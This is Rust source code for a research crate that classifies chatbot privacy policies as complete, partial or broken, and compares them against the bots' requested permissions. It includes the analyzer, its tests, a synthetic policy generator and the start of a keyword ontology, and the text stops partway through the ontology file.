//! keyword-set is described, we say that the policy is partial, and broken
//! when none." A missing policy is broken traceability by definition
//! (§4.2: "If the website link is not available and a privacy policy is not
//! found, we assume broken traceability").

use crate::document::PrivacyPolicy;
use crate::ontology::{DataPractice, KeywordOntology};
use serde::{Deserialize, Serialize};
use std::fmt;

/// The three-way classification.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash, Serialize, Deserialize)]
pub enum Traceability {
    /// All four data practices are described.
    Complete,
    /// At least one practice is described, but not all.
    Partial,
    /// Nothing is described, or there is no (valid) policy.
    Broken,
}

impl fmt::Display for Traceability {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(match self {
            Traceability::Complete => "complete",
            Traceability::Partial => "partial",
            Traceability::Broken => "broken",
        })
    }
}

/// Whether the policy text accounts for one requested permission.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct PermissionDisclosure {
    /// Canonical permission name (e.g. `read message history`).
    pub permission: String,
    /// The data noun the analyzer looked for (e.g. `message`).
    pub matched_noun: String,
    /// Whether the policy mentions the noun at all.
    pub disclosed: bool,
}

/// Full analyzer output for one chatbot.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct TraceabilityReport {
    /// The headline classification.
    pub classification: Traceability,
    /// Which practices the policy describes.
    pub practices_found: Vec<DataPractice>,
    /// Per-permission disclosure comparison (empty when no policy).
    pub permission_disclosures: Vec<PermissionDisclosure>,
    /// True when a policy existed but was not substantive (junk page).
    pub junk_policy: bool,
}

impl TraceabilityReport {
    /// Fraction of requested permissions whose data the policy mentions.
    pub fn disclosure_ratio(&self) -> f64 {
        if self.permission_disclosures.is_empty() {
            return 0.0;
        }
        let disclosed = self.permission_disclosures.iter().filter(|d| d.disclosed).count();
        disclosed as f64 / self.permission_disclosures.len() as f64
    }
}

/// The data noun a permission's disclosure should mention. The ontology the
/// paper wanted did not exist ("their ontologies do not cover all the data
/// types in this new ecosystem"), so this is the chatbot-ecosystem mapping
/// we built: permission → what user data it touches.
pub fn permission_data_noun(permission: &str) -> &'static str {
    let p = permission.to_ascii_lowercase();
    if p.contains("administrator") {
        "all data"
    } else if p.contains("message") || p.contains("history") {
        "message"
    } else if p.contains("member") || p.contains("nickname") {
        "member"
    } else if p.contains("role") {
        "role"
    } else if p.contains("channel") {
        "channel"
    } else if p.contains("webhook") {
        "webhook"
    } else if p.contains("audit") {
        "audit log"
    } else if p.contains("speak") || p.contains("voice") || p.contains("connect") || p.contains("video") {
        "voice"
    } else if p.contains("emoji") || p.contains("sticker") || p.contains("reaction") {
        "emoji"
    } else if p.contains("invite") {
        "invite"
    } else if p.contains("server") || p.contains("guild") || p.contains("insight") {
        "server"
    } else {
        "data"
    }
}

/// Analyze one chatbot's disclosure.
///
/// `policy` is `None` when no policy was found (no website, dead link, or
/// the site simply has none). `requested_permissions` are canonical
/// permission names from the install page.
pub fn analyze(
    policy: Option<&PrivacyPolicy>,
    requested_permissions: &[&str],
    ontology: &KeywordOntology,
) -> TraceabilityReport {
    let Some(policy) = policy else {
        return TraceabilityReport {
            classification: Traceability::Broken,
            practices_found: Vec::new(),
            permission_disclosures: Vec::new(),
            junk_policy: false,
        };
    };
    if !policy.is_substantive() {
        return TraceabilityReport {
            classification: Traceability::Broken,
            practices_found: Vec::new(),
            permission_disclosures: Vec::new(),
            junk_policy: true,
        };
    }
    let text = policy.full_text();
    let practices_found = ontology.practices_in(&text);
    let classification = match practices_found.len() {
        4 => Traceability::Complete,
        0 => Traceability::Broken,
        _ => Traceability::Partial,
    };
    let haystack = text.to_ascii_lowercase();
    let permission_disclosures = requested_permissions
        .iter()
        .map(|perm| {
            let noun = permission_data_noun(perm);
            PermissionDisclosure {
                permission: perm.to_string(),
                matched_noun: noun.to_string(),
                disclosed: haystack.contains(noun),
            }
        })
        .collect();
    TraceabilityReport { classification, practices_found, permission_disclosures, junk_policy: false }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::corpus;
    use rand::rngs::StdRng;
    use rand::SeedableRng;

    fn ontology() -> KeywordOntology {
        KeywordOntology::standard()
    }

    #[test]
    fn missing_policy_is_broken() {
        let r = analyze(None, &["send messages"], &ontology());
        assert_eq!(r.classification, Traceability::Broken);
        assert!(!r.junk_policy);
        assert_eq!(r.disclosure_ratio(), 0.0);
    }

    #[test]
    fn junk_policy_is_broken_and_flagged() {
        let junk = corpus::junk_page();
        let r = analyze(Some(&junk), &[], &ontology());
        assert_eq!(r.classification, Traceability::Broken);
        assert!(r.junk_policy);
    }

    #[test]
    fn complete_policy_classifies_complete() {
        let mut rng = StdRng::seed_from_u64(3);
        let p = corpus::complete_policy(&mut rng, "B", true);
        let r = analyze(Some(&p), &[], &ontology());
        assert_eq!(r.classification, Traceability::Complete);
        assert_eq!(r.practices_found.len(), 4);
    }

    #[test]
    fn partial_policy_classifies_partial() {
        let mut rng = StdRng::seed_from_u64(4);
        let p = corpus::partial_policy(&mut rng, "B", &[DataPractice::Collect, DataPractice::Use], true);
        let r = analyze(Some(&p), &[], &ontology());
        assert_eq!(r.classification, Traceability::Partial);
    }

    #[test]
    fn vacuous_policy_classifies_broken() {
        let p = corpus::vacuous_policy();
        let r = analyze(Some(&p), &[], &ontology());
        assert_eq!(r.classification, Traceability::Broken);
        assert!(!r.junk_policy, "substantive page, just says nothing");
    }

    #[test]
    fn permission_disclosure_comparison() {
        let p = PrivacyPolicy::new(
            "P",
            vec!["We collect and store the message content you post to provide moderation.".into()],
            true,
        );
        let r = analyze(Some(&p), &["read message history", "kick members"], &ontology());
        let msg = r.permission_disclosures.iter().find(|d| d.permission.contains("message")).unwrap();
        assert!(msg.disclosed);
        let kick = r.permission_disclosures.iter().find(|d| d.permission.contains("kick")).unwrap();
        assert!(!kick.disclosed, "policy never mentions members");
        assert!((r.disclosure_ratio() - 0.5).abs() < 1e-9);
    }

    #[test]
    fn noun_mapping_covers_figure3_permissions() {
        for (perm, noun) in [
            ("administrator", "all data"),
            ("read message history", "message"),
            ("ban members", "member"),
            ("manage roles", "role"),
            ("manage channels", "channel"),
            ("view audit log", "audit log"),
            ("use voice activity", "voice"),
            ("manage emojis and stickers", "emoji"),
            ("create invite", "invite"),
            ("manage server", "server"),
            ("add reactions", "emoji"),
            ("manage webhooks", "webhook"),
        ] {
            assert_eq!(permission_data_noun(perm), noun, "{perm}");
        }
    }

    #[test]
    fn ablation_base_verbs_misses_synonym_policies() {
        // A policy written entirely with synonyms is correctly classified by
        // the full ontology but falls to Broken under the base-verbs one.
        let p = PrivacyPolicy::new(
            "P",
            vec!["Usage data is gathered, analyzed for quality, kept safe in our database, and never sold to anyone at all.".into()],
            false,
        );
        let full = analyze(Some(&p), &[], &KeywordOntology::standard());
        let base = analyze(Some(&p), &[], &KeywordOntology::base_verbs_only());
        assert_ne!(full.classification, Traceability::Broken);
        assert_eq!(base.classification, Traceability::Broken);
    }
}
