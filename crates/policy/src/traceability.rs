//! The traceability analyzer.
//!
//! §3: "When a privacy policy explains how data is collected, used, retained
//! and disclosed we say that the policy is complete. When any of the
//! keyword-set is described, we say that the policy is partial, and broken
//! when none." A missing policy is broken traceability by definition
//! (§4.2: "If the website link is not available and a privacy policy is not
//! found, we assume broken traceability").

use crate::document::PrivacyPolicy;
use crate::ontology::{DataPractice, KeywordOntology};
use matchkit::{AhoCorasick, AhoCorasickBuilder};
use serde::{Deserialize, Serialize};
use std::fmt;
use std::sync::OnceLock;

/// The three-way classification.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash, Serialize, Deserialize)]
pub enum Traceability {
    /// All four data practices are described.
    Complete,
    /// At least one practice is described, but not all.
    Partial,
    /// Nothing is described, or there is no (valid) policy.
    Broken,
}

impl fmt::Display for Traceability {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(match self {
            Traceability::Complete => "complete",
            Traceability::Partial => "partial",
            Traceability::Broken => "broken",
        })
    }
}

/// Whether the policy text accounts for one requested permission.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct PermissionDisclosure {
    /// Canonical permission name (e.g. `read message history`).
    pub permission: String,
    /// The data noun the analyzer looked for (e.g. `message`).
    pub matched_noun: String,
    /// Whether the policy mentions the noun at all.
    pub disclosed: bool,
}

/// Full analyzer output for one chatbot.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct TraceabilityReport {
    /// The headline classification.
    pub classification: Traceability,
    /// Which practices the policy describes.
    pub practices_found: Vec<DataPractice>,
    /// Per-permission disclosure comparison (empty when no policy).
    pub permission_disclosures: Vec<PermissionDisclosure>,
    /// True when a policy existed but was not substantive (junk page).
    pub junk_policy: bool,
}

impl TraceabilityReport {
    /// Fraction of requested permissions whose data the policy mentions.
    pub fn disclosure_ratio(&self) -> f64 {
        if self.permission_disclosures.is_empty() {
            return 0.0;
        }
        let disclosed = self
            .permission_disclosures
            .iter()
            .filter(|d| d.disclosed)
            .count();
        disclosed as f64 / self.permission_disclosures.len() as f64
    }
}

/// The distinct data nouns [`permission_data_noun`] can return, in trigger
/// priority order. The last entry is the generic fallback.
const NOUNS: [&str; 12] = [
    "all data",
    "message",
    "member",
    "role",
    "channel",
    "webhook",
    "audit log",
    "voice",
    "emoji",
    "invite",
    "server",
    "data",
];

/// Trigger word → index into [`NOUNS`]. Order is priority: when a
/// permission name contains several triggers, the earliest entry wins —
/// the same tie-breaking the original `contains` if-chain had ("send
/// messages in threads" is `message` data, not generic `thread` data).
///
/// The trailing generic-data triggers name the permissions whose data noun
/// is the catch-all "data" (embed links, attach files, …). They map to the
/// same noun the fallback arm would produce — classification is unchanged
/// for every input — but matching them explicitly lets
/// [`permission_data_noun_explicit`] prove that no *real* permission name
/// is classified by accident of the fallback.
const NOUN_TRIGGERS: &[(&str, usize)] = &[
    ("administrator", 0),
    ("message", 1),
    ("history", 1),
    ("member", 2),
    ("nickname", 2),
    ("role", 3),
    ("channel", 4),
    ("webhook", 5),
    ("audit", 6),
    ("speak", 7),
    ("voice", 7),
    ("connect", 7),
    ("video", 7),
    ("emoji", 8),
    ("sticker", 8),
    ("reaction", 8),
    ("invite", 9),
    ("server", 10),
    ("guild", 10),
    ("insight", 10),
    // Telegram vocabulary: admin-right names say "users" where Discord says
    // "members", "chat" where Discord says "channel", and "admins" for role
    // grants ("administrator" still wins its own noun by priority).
    ("user", 2),
    ("chat", 4),
    ("admin", 3),
    // generic-data permissions (noun 11 == the fallback noun)
    ("link", 11),
    ("file", 11),
    ("everyone", 11),
    ("command", 11),
    ("event", 11),
    ("thread", 11),
    ("activit", 11),
];

/// Automaton over the trigger words: classifying a permission name is one
/// pass over the name instead of one `to_ascii_lowercase` allocation plus
/// up to 20 `contains` walks.
fn trigger_automaton() -> &'static AhoCorasick {
    static AUTOMATON: OnceLock<AhoCorasick> = OnceLock::new();
    AUTOMATON.get_or_init(|| {
        AhoCorasickBuilder::new()
            .ascii_case_insensitive(true)
            .build(NOUN_TRIGGERS.iter().map(|(trigger, _)| *trigger))
    })
}

/// Automaton over the data nouns themselves, for the disclosure check in
/// [`analyze`]: one pass over the policy text finds every noun any
/// permission could ask about.
fn noun_automaton() -> &'static AhoCorasick {
    static AUTOMATON: OnceLock<AhoCorasick> = OnceLock::new();
    AUTOMATON.get_or_init(|| {
        AhoCorasickBuilder::new()
            .ascii_case_insensitive(true)
            .build(NOUNS)
    })
}

/// The data noun a permission's disclosure should mention. The ontology the
/// paper wanted did not exist ("their ontologies do not cover all the data
/// types in this new ecosystem"), so this is the chatbot-ecosystem mapping
/// we built: permission → what user data it touches.
pub fn permission_data_noun(permission: &str) -> &'static str {
    permission_data_noun_explicit(permission).unwrap_or("data")
}

/// Like [`permission_data_noun`], but `None` when no trigger word matched
/// and the classification fell through to the generic `"data"` arm. Every
/// real permission name has an explicit trigger — the
/// `every_permission_name_classifies_explicitly` tests pin that — so `None`
/// only ever shows up for vocabulary outside the platform's permission set.
pub fn permission_data_noun_explicit(permission: &str) -> Option<&'static str> {
    explicit_noun_index(permission).map(|noun_idx| NOUNS[noun_idx])
}

fn explicit_noun_index(permission: &str) -> Option<usize> {
    trigger_automaton()
        .find_iter(permission)
        .map(|m| NOUN_TRIGGERS[m.pattern].1)
        .min()
}

/// Analyze one chatbot's disclosure.
///
/// `policy` is `None` when no policy was found (no website, dead link, or
/// the site simply has none). `requested_permissions` are canonical
/// permission names from the install page.
pub fn analyze(
    policy: Option<&PrivacyPolicy>,
    requested_permissions: &[&str],
    ontology: &KeywordOntology,
) -> TraceabilityReport {
    let Some(policy) = policy else {
        return TraceabilityReport {
            classification: Traceability::Broken,
            practices_found: Vec::new(),
            permission_disclosures: Vec::new(),
            junk_policy: false,
        };
    };
    if !policy.is_substantive() {
        return TraceabilityReport {
            classification: Traceability::Broken,
            practices_found: Vec::new(),
            permission_disclosures: Vec::new(),
            junk_policy: true,
        };
    }
    let text = policy.full_text();
    let practices_found = ontology.practices_in(&text);
    let classification = match practices_found.len() {
        4 => Traceability::Complete,
        0 => Traceability::Broken,
        _ => Traceability::Partial,
    };
    // One pass over the raw policy text decides disclosure for every noun
    // any permission could map to (the old code lowercased the full text
    // and re-walked it once per permission).
    let noun_present = noun_automaton().matched_patterns(&text);
    let permission_disclosures = requested_permissions
        .iter()
        .map(|perm| {
            let noun_idx = explicit_noun_index(perm).unwrap_or(NOUNS.len() - 1);
            PermissionDisclosure {
                permission: perm.to_string(),
                matched_noun: NOUNS[noun_idx].to_string(),
                disclosed: noun_present[noun_idx],
            }
        })
        .collect();
    TraceabilityReport {
        classification,
        practices_found,
        permission_disclosures,
        junk_policy: false,
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::corpus;
    use rand::rngs::StdRng;
    use rand::SeedableRng;

    fn ontology() -> KeywordOntology {
        KeywordOntology::standard()
    }

    #[test]
    fn missing_policy_is_broken() {
        let r = analyze(None, &["send messages"], &ontology());
        assert_eq!(r.classification, Traceability::Broken);
        assert!(!r.junk_policy);
        assert_eq!(r.disclosure_ratio(), 0.0);
    }

    #[test]
    fn junk_policy_is_broken_and_flagged() {
        let junk = corpus::junk_page();
        let r = analyze(Some(&junk), &[], &ontology());
        assert_eq!(r.classification, Traceability::Broken);
        assert!(r.junk_policy);
    }

    #[test]
    fn complete_policy_classifies_complete() {
        let mut rng = StdRng::seed_from_u64(3);
        let p = corpus::complete_policy(&mut rng, "B", true);
        let r = analyze(Some(&p), &[], &ontology());
        assert_eq!(r.classification, Traceability::Complete);
        assert_eq!(r.practices_found.len(), 4);
    }

    #[test]
    fn partial_policy_classifies_partial() {
        let mut rng = StdRng::seed_from_u64(4);
        let p = corpus::partial_policy(
            &mut rng,
            "B",
            &[DataPractice::Collect, DataPractice::Use],
            true,
        );
        let r = analyze(Some(&p), &[], &ontology());
        assert_eq!(r.classification, Traceability::Partial);
    }

    #[test]
    fn vacuous_policy_classifies_broken() {
        let p = corpus::vacuous_policy();
        let r = analyze(Some(&p), &[], &ontology());
        assert_eq!(r.classification, Traceability::Broken);
        assert!(!r.junk_policy, "substantive page, just says nothing");
    }

    #[test]
    fn permission_disclosure_comparison() {
        let p = PrivacyPolicy::new(
            "P",
            vec!["We collect and store the message content you post to provide moderation.".into()],
            true,
        );
        let r = analyze(
            Some(&p),
            &["read message history", "kick members"],
            &ontology(),
        );
        let msg = r
            .permission_disclosures
            .iter()
            .find(|d| d.permission.contains("message"))
            .unwrap();
        assert!(msg.disclosed);
        let kick = r
            .permission_disclosures
            .iter()
            .find(|d| d.permission.contains("kick"))
            .unwrap();
        assert!(!kick.disclosed, "policy never mentions members");
        assert!((r.disclosure_ratio() - 0.5).abs() < 1e-9);
    }

    #[test]
    fn noun_mapping_covers_figure3_permissions() {
        for (perm, noun) in [
            ("administrator", "all data"),
            ("read message history", "message"),
            ("ban members", "member"),
            ("manage roles", "role"),
            ("manage channels", "channel"),
            ("view audit log", "audit log"),
            ("use voice activity", "voice"),
            ("manage emojis and stickers", "emoji"),
            ("create invite", "invite"),
            ("manage server", "server"),
            ("add reactions", "emoji"),
            ("manage webhooks", "webhook"),
        ] {
            assert_eq!(permission_data_noun(perm), noun, "{perm}");
        }
    }

    #[test]
    fn generic_data_permissions_classify_explicitly() {
        // These permissions map to the catch-all "data" noun, but via an
        // explicit trigger — not by falling off the end of the chain. The
        // exhaustive sweep over `InviteStatus::permission_names()` lives in
        // the workspace-level `tests/kernel_invariants.rs`.
        for perm in [
            "embed links",
            "attach files",
            "mention @everyone",
            "use application commands",
            "manage events",
            "manage threads",
            "create public threads",
            "create private threads",
            "use embedded activities",
        ] {
            assert_eq!(permission_data_noun_explicit(perm), Some("data"), "{perm}");
            assert_eq!(permission_data_noun(perm), "data", "{perm}");
        }
        // Genuinely unknown vocabulary still falls through.
        assert_eq!(permission_data_noun_explicit("teleport"), None);
        assert_eq!(permission_data_noun("teleport"), "data");
    }

    #[test]
    fn telegram_right_names_classify() {
        for (perm, noun) in [
            ("change chat info", "channel"),
            ("delete messages", "message"),
            ("ban users", "member"),
            ("invite users", "member"),
            ("pin messages", "message"),
            ("manage video chats", "channel"),
            ("add new admins", "role"),
            ("post messages", "message"),
            ("read all group messages", "message"),
        ] {
            assert_eq!(permission_data_noun(perm), noun, "{perm}");
            assert!(permission_data_noun_explicit(perm).is_some(), "{perm}");
        }
        // "administrator" keeps its all-data noun despite the new "admin"
        // trigger — priority picks the lower noun index.
        assert_eq!(permission_data_noun("administrator"), "all data");
    }

    #[test]
    fn explicit_noun_respects_chain_priority() {
        // "send messages in threads" holds both a "message" trigger and a
        // generic "thread" trigger; the earlier chain arm wins.
        assert_eq!(permission_data_noun("send messages in threads"), "message");
        // "use voice activity" holds "voice" (priority 7) and "activit" (11).
        assert_eq!(permission_data_noun("use voice activity"), "voice");
    }

    #[test]
    fn ablation_base_verbs_misses_synonym_policies() {
        // A policy written entirely with synonyms is correctly classified by
        // the full ontology but falls to Broken under the base-verbs one.
        let p = PrivacyPolicy::new(
            "P",
            vec!["Usage data is gathered, analyzed for quality, kept safe in our database, and never sold to anyone at all.".into()],
            false,
        );
        let full = analyze(Some(&p), &[], &KeywordOntology::standard());
        let base = analyze(Some(&p), &[], &KeywordOntology::base_verbs_only());
        assert_ne!(full.classification, Traceability::Broken);
        assert_eq!(base.classification, Traceability::Broken);
    }
}
