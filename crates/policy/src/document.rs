//! The privacy-policy document model.

use serde::{Deserialize, Serialize};

/// A privacy policy as found on a chatbot's website.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct PrivacyPolicy {
    /// Document title.
    pub title: String,
    /// Section texts, in order.
    pub sections: Vec<String>,
    /// Whether the text is recognisably tailored to the chatbot ecosystem
    /// (mentions guilds/channels/commands) rather than generic boilerplate.
    /// Ground-truth metadata used to validate the analyzer, not read by it.
    pub tailored: bool,
}

impl PrivacyPolicy {
    /// Build a policy from sections.
    pub fn new(title: &str, sections: Vec<String>, tailored: bool) -> PrivacyPolicy {
        PrivacyPolicy {
            title: title.to_string(),
            sections,
            tailored,
        }
    }

    /// The full text (sections joined), what the analyzer scans.
    pub fn full_text(&self) -> String {
        self.sections.join("\n\n")
    }

    /// Rough word count — used to filter out junk "policies".
    pub fn word_count(&self) -> usize {
        self.full_text().split_whitespace().count()
    }

    /// Heuristic used by the crawler: a page that calls itself a policy but
    /// has almost no text is not a valid policy document (the paper found 3
    /// of 676 policy links led to invalid pages).
    pub fn is_substantive(&self) -> bool {
        self.word_count() >= 10
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn full_text_joins_sections() {
        let p = PrivacyPolicy::new(
            "Privacy",
            vec!["We collect data.".into(), "We store data.".into()],
            true,
        );
        assert!(p.full_text().contains("collect"));
        assert!(p.full_text().contains("store"));
        assert_eq!(p.word_count(), 6);
    }

    #[test]
    fn substantive_threshold() {
        let junk = PrivacyPolicy::new("Privacy", vec!["coming soon".into()], false);
        assert!(!junk.is_substantive());
        let real = PrivacyPolicy::new(
            "Privacy",
            vec![
                "We collect the messages you send in order to provide bot functionality to you."
                    .into(),
            ],
            true,
        );
        assert!(real.is_substantive());
    }
}
