//! Seeded privacy-policy text generators.
//!
//! The synthetic ecosystem needs a realistic policy population: a few
//! tailored documents, many *generic* templates "reused verbatim across
//! different domains" (§4.2), partial disclosures, and junk pages. All
//! wording is assembled deterministically from a caller RNG.

use crate::document::PrivacyPolicy;
use crate::ontology::DataPractice;
use rand::Rng;

fn pick<'a, R: Rng + ?Sized>(rng: &mut R, options: &[&'a str]) -> &'a str {
    options[rng.gen_range(0..options.len())]
}

fn practice_sentence<R: Rng + ?Sized>(
    rng: &mut R,
    practice: DataPractice,
    tailored: bool,
) -> String {
    let subject = if tailored {
        pick(
            rng,
            &[
                "messages you send in your guild",
                "your server membership and channel activity",
                "commands you invoke",
            ],
        )
    } else {
        pick(
            rng,
            &[
                "personal information",
                "usage data",
                "information you provide",
            ],
        )
    };
    match practice {
        DataPractice::Collect => format!(
            "We {} {subject} when you interact with the service.",
            pick(rng, &["collect", "gather", "receive", "record"])
        ),
        DataPractice::Use => format!(
            "We {} this information to {}.",
            pick(rng, &["use", "process", "analyze"]),
            pick(
                rng,
                &[
                    "provide functionality",
                    "improve our service",
                    "moderate content"
                ]
            )
        ),
        DataPractice::Retain => format!(
            "Data is {} {}.",
            pick(rng, &["stored", "retained", "kept", "saved"]),
            pick(
                rng,
                &[
                    "for up to 90 days",
                    "only as long as necessary",
                    "in our database"
                ]
            )
        ),
        DataPractice::Disclose => format!(
            "We {} information {} third parties{}.",
            pick(rng, &["do not share", "never sell", "may disclose"]),
            pick(rng, &["with", "to"]),
            pick(
                rng,
                &[" except as required by law", "", " without your consent"]
            )
        ),
    }
}

/// A policy covering all four practices.
pub fn complete_policy<R: Rng + ?Sized>(
    rng: &mut R,
    bot_name: &str,
    tailored: bool,
) -> PrivacyPolicy {
    let sections = DataPractice::ALL
        .iter()
        .map(|p| practice_sentence(rng, *p, tailored))
        .collect();
    PrivacyPolicy::new(&format!("{bot_name} Privacy Policy"), sections, tailored)
}

/// A policy covering only the given practices (partial disclosure).
pub fn partial_policy<R: Rng + ?Sized>(
    rng: &mut R,
    bot_name: &str,
    practices: &[DataPractice],
    tailored: bool,
) -> PrivacyPolicy {
    let mut sections: Vec<String> = practices
        .iter()
        .map(|p| practice_sentence(rng, *p, tailored))
        .collect();
    sections
        .push("If you have questions about this policy please contact the developer.".to_string());
    PrivacyPolicy::new(&format!("{bot_name} Privacy Policy"), sections, tailored)
}

/// The generic boilerplate template the paper saw reused verbatim: covers
/// some practices, never tailored, identical for every bot that uses it.
pub fn generic_boilerplate() -> PrivacyPolicy {
    PrivacyPolicy::new(
        "Privacy Policy",
        vec![
            "This application respects your privacy.".to_string(),
            "We may gather usage data to operate the app and keep it in our systems.".to_string(),
            "By using the app you consent to this policy.".to_string(),
        ],
        false,
    )
}

/// A policy page that mentions nothing actionable at all (broken
/// traceability despite a policy existing).
pub fn vacuous_policy() -> PrivacyPolicy {
    PrivacyPolicy::new(
        "Privacy Policy",
        vec![
            "Your privacy is very important to this project and its community members overall."
                .to_string(),
            "Please be kind to each other and follow the server rules at all times everyone."
                .to_string(),
        ],
        false,
    )
}

/// A junk page: calls itself a policy but is not substantive.
pub fn junk_page() -> PrivacyPolicy {
    PrivacyPolicy::new("Privacy Policy", vec!["coming soon".to_string()], false)
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::ontology::KeywordOntology;
    use rand::rngs::StdRng;
    use rand::SeedableRng;

    #[test]
    fn complete_policy_covers_all_practices() {
        let mut rng = StdRng::seed_from_u64(1);
        let o = KeywordOntology::standard();
        for _ in 0..20 {
            let p = complete_policy(&mut rng, "TestBot", true);
            assert_eq!(o.practices_in(&p.full_text()).len(), 4, "{}", p.full_text());
            assert!(p.is_substantive());
        }
    }

    #[test]
    fn partial_policy_covers_exactly_requested() {
        let mut rng = StdRng::seed_from_u64(2);
        let o = KeywordOntology::standard();
        let p = partial_policy(&mut rng, "B", &[DataPractice::Collect], true);
        let found = o.practices_in(&p.full_text());
        assert!(found.contains(&DataPractice::Collect));
        assert!(!found.contains(&DataPractice::Disclose));
    }

    #[test]
    fn boilerplate_is_partial_not_complete() {
        let o = KeywordOntology::standard();
        let p = generic_boilerplate();
        let found = o.practices_in(&p.full_text());
        assert!(!found.is_empty(), "boilerplate mentions something");
        assert!(found.len() < 4, "but never everything");
        assert!(!p.tailored);
    }

    #[test]
    fn vacuous_policy_mentions_nothing() {
        let o = KeywordOntology::standard();
        let p = vacuous_policy();
        assert!(
            o.practices_in(&p.full_text()).is_empty(),
            "{:?}",
            o.practices_in(&p.full_text())
        );
        assert!(p.is_substantive(), "long enough to be a page, says nothing");
    }

    #[test]
    fn junk_is_not_substantive() {
        assert!(!junk_page().is_substantive());
    }

    #[test]
    fn generation_is_deterministic() {
        let a = complete_policy(&mut StdRng::seed_from_u64(7), "X", false);
        let b = complete_policy(&mut StdRng::seed_from_u64(7), "X", false);
        assert_eq!(a, b);
    }
}
