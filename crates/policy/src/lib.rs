//! # policy — privacy policies and keyword-based traceability analysis
//!
//! §3 "Traceability Analysis": the analyzer collects the data practices a
//! chatbot's privacy policy describes and compares them against the
//! permissions the chatbot requests, classifying disclosure as **complete**
//! (all four practice categories — Collect, Use, Retain, Disclose — are
//! described), **partial** (some are), or **broken** (none are, or there is
//! no policy at all).
//!
//! * [`ontology`] — the four data practices and their keyword sets
//!   (synonyms plus chatbot-ecosystem vocabulary, per the paper's method);
//! * [`document`] — the policy document model;
//! * [`corpus`] — seeded generators for realistic policy texts: tailored,
//!   generic boilerplate reused verbatim across bots (a phenomenon the
//!   paper observed), partial, and junk;
//! * [`traceability`] — the analyzer and its classification output,
//!   including the per-permission disclosure comparison;
//! * [`ml`] — the paper's future-work ML classifier (naive Bayes over
//!   bag-of-words), trainable because the synthetic corpus is annotated;
//! * [`memo`] — the content-hash memo table that lets parallel analysis
//!   workers scan each distinct policy text exactly once.

#![warn(missing_docs)]
#![forbid(unsafe_code)]

pub mod corpus;
pub mod document;
pub mod memo;
pub mod ml;
pub mod ontology;
pub mod traceability;

pub use document::PrivacyPolicy;
pub use memo::AnalysisMemo;
pub use ml::{train_and_score, NaiveBayesTraceability};
pub use ontology::{contains_word_prefix, DataPractice, KeywordOntology, OntologyKernelStats};
pub use traceability::{
    analyze, permission_data_noun, permission_data_noun_explicit, PermissionDisclosure,
    Traceability, TraceabilityReport,
};
