//! The data-practice ontology.
//!
//! §3: "we identify words that are often used in privacy policies to
//! identify data practices in other domains: Collect, Use, Retain, and
//! Disclose … We then identified the synonyms of these words and keywords
//! akin to the chatbot ecosystem obtained from existing chatbot permissions
//! and privacy policies."
//!
//! Matching runs on a lazily compiled [`matchkit::AhoCorasick`] automaton
//! over the whole keyword set: `practices_in` is a single pass over the raw
//! policy text with zero per-call allocation, where the naive scan
//! lowercased the full document once per practice and then walked it once
//! per keyword.

use matchkit::{AhoCorasick, AhoCorasickBuilder, MatchMode, ScanStats};
use serde::value::Value;
use serde::{Deserialize, Serialize};
use std::collections::BTreeMap;
use std::fmt;
use std::sync::OnceLock;

/// The four data-practice categories.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash, Serialize, Deserialize)]
pub enum DataPractice {
    /// Gathering/acquiring user data.
    Collect,
    /// Using/processing the data.
    Use,
    /// Storing/remembering the data.
    Retain,
    /// Sharing/transferring the data to another party.
    Disclose,
}

impl DataPractice {
    /// All four practices.
    pub const ALL: [DataPractice; 4] = [
        DataPractice::Collect,
        DataPractice::Use,
        DataPractice::Retain,
        DataPractice::Disclose,
    ];
}

impl serde::SerializeMapKey for DataPractice {
    fn as_key(&self) -> String {
        self.to_string()
    }
}

impl serde::DeserializeMapKey for DataPractice {
    fn from_key(key: &str) -> Result<DataPractice, serde::DeError> {
        match key {
            "collect" => Ok(DataPractice::Collect),
            "use" => Ok(DataPractice::Use),
            "retain" => Ok(DataPractice::Retain),
            "disclose" => Ok(DataPractice::Disclose),
            other => Err(serde::de_error(format!("unknown data practice `{other}`"))),
        }
    }
}

impl fmt::Display for DataPractice {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(match self {
            DataPractice::Collect => "collect",
            DataPractice::Use => "use",
            DataPractice::Retain => "retain",
            DataPractice::Disclose => "disclose",
        })
    }
}

/// The compiled form of the keyword sets: one automaton over every keyword
/// of every practice, plus the pattern-index → practice mapping.
struct Compiled {
    automaton: AhoCorasick,
    pattern_practice: Vec<DataPractice>,
}

/// Kernel counters for one ontology instance, reported by the experiments
/// binary alongside the PR 1 cache counters.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
pub struct OntologyKernelStats {
    /// DFA states in the compiled keyword automaton.
    pub automaton_states: u64,
    /// Completed scan passes over policy text.
    pub scans: u64,
    /// Total policy-text bytes consumed across all passes.
    pub bytes_scanned: u64,
}

/// Keyword sets per practice, lowercased. Matching is whole-word-ish
/// (keyword must appear bounded by non-alphanumeric characters) so "user"
/// does not match "misuse" but "collects"/"collected" are covered via
/// stemmed keyword entries.
pub struct KeywordOntology {
    sets: BTreeMap<DataPractice, Vec<String>>,
    /// Lazily compiled automaton; reset (invalidated) by [`add_keyword`].
    ///
    /// [`add_keyword`]: KeywordOntology::add_keyword
    compiled: OnceLock<Compiled>,
}

impl KeywordOntology {
    fn from_sets(sets: BTreeMap<DataPractice, Vec<String>>) -> KeywordOntology {
        KeywordOntology {
            sets,
            compiled: OnceLock::new(),
        }
    }

    /// The ontology used in the measurement: base verbs, synonyms, and
    /// chatbot-ecosystem vocabulary.
